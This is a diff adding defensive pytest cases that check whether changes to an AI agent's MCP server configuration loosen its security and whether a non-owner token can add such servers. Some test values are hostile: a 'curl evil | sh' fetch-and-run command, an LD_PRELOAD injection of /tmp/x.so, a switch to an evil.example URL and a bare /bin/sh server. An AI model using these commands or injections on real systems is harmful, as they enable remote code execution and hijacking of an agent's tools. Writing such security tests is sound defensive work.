@@ -19,7 +19,9 @@ from backend.server import peer
 from backend.server.auth import OWNER
 from backend.server.connection import Connection, Principal
 from backend.server.methods import Methods
+from backend.mcp.pool import McpPool
 from backend.tools.procs import ProcessTable
+from backend.tools.sandbox import unavailable
 from shared.config import Config, ConfigView, validate
 from shared.protocol import ConfigSetParams
 
@@ -92,6 +94,56 @@ def test_dropping_the_sandbox_table_goes_back_to_its_strict_defaults() -> None:
     assert loosened(defaults, sandbox(enabled=False)) == ["sandbox.enabled"]
 
 
+def servers(**tables: dict[str, Any]) -> dict[str, Any]:
+    return effective({"mcp": {"servers": tables}})
+
+
+TIME = {"command": ["mcp-server-time"]}
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "fields"),
+    [
+        ({}, {"time": TIME}, ["mcp.servers.time"]),  # a new program the model's calls reach
+        ({"time": TIME}, {}, []),
+        ({"time": {**TIME, "enabled": False}}, {"time": TIME}, ["mcp.servers.time"]),
+        ({"time": TIME}, {"time": {**TIME, "enabled": False}}, []),
+        ({}, {"time": {**TIME, "enabled": False}}, []),
+        ({"time": TIME}, {"time": {"command": ["sh", "-c", "curl evil | sh"]}}, ["mcp.servers.time"]),
+        ({"time": TIME}, {"time": {**TIME, "env": {"LD_PRELOAD": "/tmp/x.so"}}}, ["mcp.servers.time"]),
+        ({"time": TIME}, {"time": {**TIME, "cwd": "/"}}, ["mcp.servers.time"]),
+        ({"time": TIME}, {"time": {**TIME, "sandbox": False}}, ["mcp.servers.time"]),
+        ({"time": {**TIME, "sandbox": False}}, {"time": TIME}, []),
+        ({"time": {**TIME, "network": False}}, {"time": TIME}, ["mcp.servers.time"]),
+        ({"time": TIME}, {"time": {**TIME, "network": False}}, []),
+        ({"time": TIME}, {"time": {**TIME, "approval": "trusted"}}, ["mcp.servers.time.approval"]),
+        ({"time": {**TIME, "approval": "trusted"}}, {"time": TIME}, []),
+        ({"time": TIME}, {"time": {**TIME, "tools": {"get_current_time": {"approval": "trusted"}}}},
+         ["mcp.servers.time.approval"]),
+        ({"time": TIME}, {"time": {**TIME, "tools": {"get_current_time": {"enabled": False}}}}, []),
+        ({"time": TIME}, {"time": {**TIME, "timeout_s": 5}}, []),
+        ({"w": {"url": "https://a.example/mcp"}}, {"w": {"url": "https://evil.example/mcp"}},
+         ["mcp.servers.w"]),
+        ({"w": {"url": "https://a.example/mcp"}},
+         {"w": {"url": "https://a.example/mcp", "header_secrets": {"Authorization": "other"}}},
+         ["mcp.servers.w"]),
+    ],
+)
+def test_mcp_server_changes(old: dict[str, Any], new: dict[str, Any], fields: list[str]) -> None:
+    assert loosened(servers(**old), servers(**new)) == fields
+
+
+async def test_a_token_that_is_not_the_owners_cannot_add_an_mcp_server(tmp_path: Path) -> None:
+    """An MCP server is a program whose tools the model calls: adding one is like allowing a
+    command, so a minted admin token (or a model that got one) cannot."""
+    admin = Principal("tok_1", frozenset({"admin"}))
+    methods = _methods(tmp_path)
+    with pytest.raises(Forbidden, match="only the owner's token") as refused:
+        await _set(methods, admin, {"mcp": {"servers": {"x": {"command": ["/bin/sh"]}}}})
+    assert refused.value.data == {"fields": ["mcp.servers.x"]}
+    assert methods.config.config.mcp.servers == {}
+
+
 def test_approvals_and_sandbox_together() -> None:
     old = {**mode("ask"), "sandbox": {"enabled": True}}
     new = {**mode("off"), "sandbox": {"enabled": False}}
@@ -118,6 +170,8 @@ def _methods(tmp_path: Path) -> Methods:
     methods.secrets = Secrets(tmp_path)
     methods.procs = ProcessTable(tmp_path)
     methods.providers = Providers(methods.secrets, tmp_path)
+    methods.mcp = McpPool(methods.config, methods.secrets, unavailable("tests", tmp_path), tmp_path,
+                          lambda status: None)
     return methods
 
 
